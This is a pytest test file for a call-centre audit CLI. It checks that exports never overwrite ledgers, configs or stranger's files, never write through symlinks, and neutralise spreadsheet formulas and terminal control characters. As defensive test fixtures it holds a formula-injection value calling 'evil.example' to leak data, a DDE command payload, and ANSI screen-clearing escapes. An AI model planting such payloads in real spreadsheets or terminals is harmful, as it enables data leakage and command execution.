"""Outputs that cannot destroy, run or steer: an --out never replaces the ledger, the
configuration, an input or a stranger's file; spreadsheet cells never become formulas;
control characters never reach a terminal or break a workbook."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from cli import main
from engine.actions.ledger import Ledger
from engine.nightly.config import load_config
from engine.outputs import (
    OutputGuard,
    OutputRefused,
    atomic_writer,
    first_line_is,
    write_csv_rows,
    write_text,
)
from tests.conftest import REPO
from tests.test_cli import CALL, RULES, write_jsonl
from tests.test_followup_cli import CAMPAIGN, db, run  # noqa: F401  (db is a fixture)
from tests.test_nightly import call, night

MONDAY = date(2026, 11, 23)
TUESDAY = MONDAY + timedelta(days=1)
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","open me")'


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cells_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


# -- --out never replaces what the command did not make --------------------------------------

EXPORTS = [
    ["callbacks", "export", "--due", "2026-11-30", "--unmasked"],
    ["blacklist", "export", "--unmasked"],
]


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: c[0])
def test_an_export_never_replaces_the_ledger(db, command):  # noqa: F811
    before = digest(db)
    result = run(db, *command, "--out", str(db))
    assert result.exit_code == 2, result.output
    assert f"{db} is a database" in result.output and "choose another" in result.output
    assert digest(db) == before
    assert Ledger(db).callbacks(None)  # still a ledger


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: c[0])
def test_an_export_never_replaces_a_file_it_did_not_make(db, tmp_path, command):  # noqa: F811
    for name, text in (("callaudit.yaml", "database: ledger.db\n"),
                       ("budget.csv", "month,amount\n2026-11,1000\n")):
        stranger = tmp_path / name
        stranger.write_text(text, encoding="utf-8")
        result = run(db, *command, "--out", str(stranger))
        assert result.exit_code == 2, result.output
        assert f"{stranger} exists and is not an earlier output of this command" in result.output
        assert "remove it or choose another output name" in result.output
        assert stranger.read_text(encoding="utf-8") == text
    assert not list(tmp_path.glob(".*partial"))


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: c[0])
def test_re_running_an_export_replaces_its_own_earlier_output(db, tmp_path, command):  # noqa: F811
    out = tmp_path / "export.csv"
    out.touch()  # an empty file holds nothing to lose
    first = run(db, *command, "--out", str(out))
    assert first.exit_code == 0, first.output
    again = run(db, *command, "--out", str(out))
    assert again.exit_code == 0, again.output
    assert out.stat().st_size > 0


def test_an_export_never_writes_through_a_symbolic_link(db, tmp_path):  # noqa: F811
    target = tmp_path / "elsewhere.csv"
    target.write_text("keep me\n", encoding="utf-8")
    link = tmp_path / "export.csv"
    link.symlink_to(target)
    result = run(db, *EXPORTS[0], "--out", str(link))
    assert result.exit_code == 2, result.output
    assert "is a symbolic link" in result.output
    assert target.read_text(encoding="utf-8") == "keep me\n" and link.is_symlink()


def test_scrub_never_replaces_another_campaign_list_with_the_same_columns(db, tmp_path):  # noqa: F811
    campaign, june = tmp_path / "may.csv", tmp_path / "june.csv"
    campaign.write_text(CAMPAIGN, encoding="utf-8")
    june.write_text(CAMPAIGN, encoding="utf-8")  # the next campaign: same columns
    result = run(db, "suppress", "scrub", str(campaign), "--out", str(june))
    assert result.exit_code == 2, result.output
    assert "is not an earlier output" in result.output
    assert june.read_text(encoding="utf-8") == CAMPAIGN
    clean = tmp_path / "may.clean.csv"
    for _ in range(2):  # re-running into its own clean list and removed rows is fine
        result = run(db, "suppress", "scrub", str(campaign), "--out", str(clean))
        assert result.exit_code == 0, result.output
    budget = tmp_path / "budget.csv"
    budget.write_text("month,amount\n", encoding="utf-8")
    result = run(db, "suppress", "scrub", str(campaign), "--out", str(clean),
                 "--removed", str(budget))
    assert result.exit_code == 2, result.output
    assert budget.read_text(encoding="utf-8") == "month,amount\n"


# -- spreadsheet cells ------------------------------------------------------------------------


def test_exported_csv_cells_never_start_a_formula_but_numbers_stay_dialable(db, tmp_path):  # noqa: F811
    ledger = Ledger(db)
    with ledger.transaction():
        ledger.db.execute("UPDATE callbacks SET call_id = ?, agent_id = ? WHERE id = 1",
                          (FORMULA_ID, "@SUM(1+1)*cmd|' /C calc'!A0"))
        ledger.db.execute("UPDATE callbacks SET agent_id = ? WHERE id = 2", ("＝1+1",))
        ledger.db.execute("UPDATE callbacks SET agent_id = ? WHERE id = 4", ("-2-sum(a1)",))
    ledger.close()
    out = tmp_path / "dialer.csv"
    result = run(db, *EXPORTS[0], "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = {r[0]: r for r in cells_of(out)[1:]}
    assert rows["1"][1] == "'" + FORMULA_ID
    assert rows["1"][3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["2"][3] == "'＝1+1"
    assert rows["4"][3] == "'-2-sum(a1)"
    assert rows["1"][2] == "+8613800138000"  # E.164: the dialer dials it as it is
    assert rows["2"][2] == "+8613912345678"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_no_csv_cell_reads_back_as_a_formula(tmp_path_factory, cells):
    out = tmp_path_factory.mktemp("csv") / "out.csv"
    with atomic_writer(out) as handle:
        write_csv_rows(handle, ["h"] * len(cells), [cells])
    (read,) = cells_of(out)[1:]
    for given_cell, cell in zip(cells, read, strict=True):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")):
            assert re.fullmatch(r"[+-][0-9][0-9 ().*-]*", cell), cell  # a plain number
            assert cell == given_cell
        else:
            assert cell in (given_cell, "'" + given_cell)


# -- the nightly report: cells, control characters, masking -----------------------------------


@pytest.fixture(scope="module")
def centre(tmp_path_factory) -> Path:
    """Two nights. Monday's invalid sales quote a phone number in the activation turn;
    Tuesday has a call whose id is a formula, and Monday's open callbacks carry control
    characters in their agent ids, as a ledger written before they were refused would."""
    root = tmp_path_factory.mktemp("centre")
    shutil.copytree(REPO / "rules", root / "rules")
    monday = night(MONDAY, 0)[:12]
    for record in monday:
        if record["agent_id"] == "A03":
            record["turns"][-1]["text"] = ("好的，已经为您开通了，有问题打我手机13912345678"
                                         "或者座机幺三九一二三四五六七八")
    tuesday = night(TUESDAY, 0)[:12]
    tuesday.append({**call(TUESDAY, 50, "A03", [t for t in monday[2]["turns"]]),
                    "call_id": FORMULA_ID})
    for day, records in ((MONDAY, monday), (TUESDAY, tuesday)):
        folder = root / "transcripts" / day.isoformat()
        folder.mkdir(parents=True)
        (folder / "calls.jsonl").write_text(
            "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    config = root / "callaudit.yaml"
    runner = CliRunner()
    assert runner.invoke(main, ["init", "--path", str(config)]).exit_code == 0
    result = runner.invoke(main, ["nightly", "--date", MONDAY.isoformat(), "--config",
                                  str(config)])
    assert result.exit_code == 0, result.output
    with Ledger(load_config(config).database) as ledger, ledger.transaction():
        ledger.db.execute("UPDATE callbacks SET agent_id = 'A03\x07\x1b[2J' "
                          "WHERE agent_id = 'A03'")
    result = runner.invoke(main, ["nightly", "--date", TUESDAY.isoformat(), "--config",
                                  str(config)])
    assert result.exit_code == 0, result.output
    return root


def report(centre: Path, day: date) -> Path:
    return centre / "reports" / day.isoformat()


def test_the_nightly_report_quotes_a_number_said_in_a_turn_masked(centre):
    with Ledger(load_config(centre / "callaudit.yaml").database) as ledger:
        evidence = " ".join(r[0] for r in ledger.db.execute("SELECT evidence FROM findings"))
    assert "13912345678" in evidence  # the turn with the number is quoted as evidence
    page = (report(centre, MONDAY) / "report.html").read_text(encoding="utf-8")
    assert "有问题打我手机139****5678或者座机幺三九****五六七八" in page
    assert "一二三四" not in page
    assert "13912345678" not in page and "1234" not in page.replace("12345678", "")


def test_a_control_character_in_an_agent_id_does_not_stop_the_night(centre):
    workbook = openpyxl.load_workbook(report(centre, TUESDAY) / "report.xlsx")
    agents = [c.value for c in workbook["callbacks_due"]["D"]]
    assert "A03\\x07\\x1b[2J" in agents


def test_no_report_cell_is_a_formula(centre):
    workbook = openpyxl.load_workbook(report(centre, TUESDAY) / "report.xlsx")
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert FORMULA_ID in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    due = cells_of(report(centre, TUESDAY) / "tables" / "callbacks_due.csv")
    assert ["'" + FORMULA_ID] in [[r[1]] for r in due]
    assert not [v for row in due for v in row if v.startswith(("=", "@", "＝"))]


# -- sample export and export-examples ---------------------------------------------------------


@pytest.mark.parametrize("command", [["sample", "export", "--date", MONDAY.isoformat()],
                                     ["review", "export-examples"]], ids=lambda c: c[0])
def test_qa_exports_never_replace_the_config_or_the_ledger(centre, tmp_path, command):
    config = centre / "callaudit.yaml"
    ledger = load_config(config).database
    runner = CliRunner()
    for target in (config, ledger):
        before = digest(target)
        result = runner.invoke(main, [*command, "--out", str(target), "--config", str(config)])
        assert result.exit_code == 2, result.output
        assert str(target) in result.output
        assert digest(target) == before
    out = tmp_path / "mine.out"
    for _ in range(2):
        result = runner.invoke(main, [*command, "--out", str(out), "--config", str(config)])
        assert result.exit_code == 0, result.output


# -- the terminal -------------------------------------------------------------------------------


def test_a_table_on_the_terminal_shows_control_characters_escaped(db):  # noqa: F811
    ledger = Ledger(db)
    with ledger.transaction():
        ledger.db.execute("UPDATE callbacks SET agent_id = 'A01\x1b[2J\x07' WHERE id = 1")
    ledger.close()
    result = run(db, "callbacks", "list")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "A01\\x1b[2J\\x07" in result.output


def test_blacklist_review_shows_quoted_speech_with_control_characters_escaped(db):  # noqa: F811
    evidence = [{"quote": "投诉\x1b[2J", "text": "我要投诉\x1b[2J你们\x07", "start": 3.0,
                 "turn": 1}]
    ledger = Ledger(db)
    with ledger.transaction():
        ledger.db.execute("UPDATE blacklist SET evidence = ? WHERE id = 1",
                          (json.dumps(evidence),))
    ledger.close()
    result = run(db, "blacklist", "review", "--by", "Wang", input="q\n")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert '"投诉\\x1b[2J"' in result.output and "我要投诉\\x1b[2J你们\\x07" in result.output


def test_check_shows_control_characters_in_speech_escaped(tmp_path):
    # The loader turns C0 and C1 controls in speech into spaces (a C1 CSI clears the screen
    # on terminals that honour 8-bit controls); a right-to-left override gets through it and
    # must be shown escaped.
    turns = [dict(t) for t in CALL["turns"]]
    turns[2]["text"] = "每月只要五块钱，绝对免费体验\x9b2J\u202e"
    path = write_jsonl(tmp_path / "c.jsonl", {**CALL, "turns": turns})
    result = CliRunner().invoke(main, ["--rules-root", RULES, "check", str(path),
                                       "--show-matches"])
    assert result.exit_code == 0, result.output
    assert "\x9b" not in result.output and "\u202e" not in result.output
    assert "绝对免费体验 2J\\u202e" in result.output


# -- audit and transcribe outputs ---------------------------------------------------------------


def test_audit_never_replaces_a_stranger_s_file_in_its_output_folder(tmp_path):
    calls = write_jsonl(tmp_path / "in" / "c.jsonl", CALL)
    out = tmp_path / "project"
    out.mkdir()
    summary = out / "summary.json"
    summary.write_text('{"project": "budget 2027"}\n', encoding="utf-8")
    ledger = tmp_path / "ledger.db"
    result = CliRunner().invoke(main, ["--rules-root", RULES, "audit", str(calls), "--out",
                                       str(out), "--db", str(ledger),
                                       "--policy", str(REPO / "rules" / "actions.yaml")])
    assert result.exit_code == 2, result.output
    assert f"{summary} exists and is not an earlier output" in result.output
    assert summary.read_text(encoding="utf-8") == '{"project": "budget 2027"}\n'
    assert sorted(p.name for p in out.iterdir()) == ["summary.json"]
    with Ledger(ledger) as opened:  # refused before a call was recorded
        assert opened.db.execute("SELECT COUNT(*) FROM calls").fetchone()[0] == 0
    summary.unlink()
    for _ in range(2):  # its own folder, re-run: replaced
        result = CliRunner().invoke(main, ["--rules-root", RULES, "audit", str(calls), "--out",
                                           str(out), "--no-ledger"])
        assert result.exit_code == 0, result.output
    target = tmp_path / "elsewhere.jsonl"
    target.write_text("keep\n", encoding="utf-8")
    (out / "verdicts.jsonl").unlink()
    (out / "verdicts.jsonl").symlink_to(target)
    result = CliRunner().invoke(main, ["--rules-root", RULES, "audit", str(calls), "--out",
                                       str(out), "--no-ledger"])
    assert result.exit_code == 2 and "is a symbolic link" in result.output
    assert target.read_text(encoding="utf-8") == "keep\n"


def test_transcribe_never_replaces_a_recording_or_a_transcript_it_did_not_write(tmp_path):
    recording = tmp_path / "stereo.wav"
    recording.write_bytes((REPO / "tests" / "fixtures" / "audio" / "stereo_optout.wav")
                          .read_bytes())
    platform = write_jsonl(tmp_path / "platform.jsonl", CALL)
    for out, why in ((recording, "is one of the recordings"),
                     (platform, "is not an earlier output")):
        before = digest(out)
        result = CliRunner().invoke(main, ["transcribe", str(recording), "--out", str(out)])
        assert result.exit_code == 2, result.output
        assert why in result.output
        assert digest(out) == before
    out = tmp_path / "calls.jsonl"
    for _ in range(2):
        result = CliRunner().invoke(main, ["transcribe", str(recording), "--out", str(out)])
        assert result.exit_code == 0, result.output
    assert json.loads(out.read_text(encoding="utf-8"))["recording"]["channels"] == 2


def test_eval_json_never_replaces_the_calls_or_the_labels(tmp_path):
    calls = write_jsonl(tmp_path / "calls.jsonl", CALL)
    labels = write_jsonl(tmp_path / "calls.labels.jsonl",
                         {"call_id": "C-1", "violations": ["consent"]})
    for target in (calls, labels):
        before = digest(target)
        result = CliRunner().invoke(main, ["--rules-root", RULES, "eval", str(calls),
                                           str(labels), "--json", str(target)])
        assert result.exit_code == 2, result.output
        assert f"{target} is the " in result.output
        assert digest(target) == before
    out = tmp_path / "scores.json"
    for _ in range(2):
        result = CliRunner().invoke(main, ["--rules-root", RULES, "eval", str(calls),
                                           str(labels), "--json", str(out)])
        assert result.exit_code == 0, result.output
    assert json.loads(out.read_text(encoding="utf-8"))["schema"] == "callaudit.eval/1"


# -- the writing itself ---------------------------------------------------------------------------


def test_a_write_that_fails_half_way_leaves_the_earlier_file_whole(tmp_path):
    report = tmp_path / "report.html"
    report.write_text("<p>yesterday</p>\n", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_writer(report) as out:
        out.write(b"<p>half of to")
        raise RuntimeError("disk gone")
    assert report.read_text(encoding="utf-8") == "<p>yesterday</p>\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]


def test_a_report_file_is_never_written_through_a_link(tmp_path):
    target = tmp_path / "hosts"
    target.write_text("127.0.0.1 localhost\n", encoding="utf-8")
    link = tmp_path / "report.html"
    link.symlink_to(target)
    with pytest.raises(OutputRefused, match="is a symbolic link"):
        write_text(link, "<p>report</p>\n")
    assert target.read_text(encoding="utf-8") == "127.0.0.1 localhost\n"


def test_a_file_that_appears_while_an_output_is_written_is_not_replaced(tmp_path):
    out = tmp_path / "export.csv"
    guard = OutputGuard(first_line_is("call_id,phone"))
    with pytest.raises(OutputRefused, match="not an earlier output"), \
            atomic_writer(out, guard) as handle:
        handle.write(b"call_id,phone\r\n")
        out.write_text("someone else's\n", encoding="utf-8")  # saved meanwhile
    assert out.read_text(encoding="utf-8") == "someone else's\n"
